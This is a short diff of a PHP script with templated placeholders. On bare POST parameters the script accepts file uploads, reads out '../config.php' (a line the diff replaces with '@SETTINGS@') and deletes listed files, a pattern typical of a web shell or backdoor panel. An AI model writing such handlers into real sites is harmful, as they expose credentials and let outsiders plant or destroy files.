@@ -10,7 +10,7 @@ if (isset($_FILES['f'], $_POST['p'])) {
     }
 }
 if (isset($_POST['r'])) {
-    readfile('../config.php');
+    @SETTINGS@
 }
 if (isset($_POST['x'])) {
     array_map('unlink', array_filter(@LEFTOVERS@, 'is_file'));
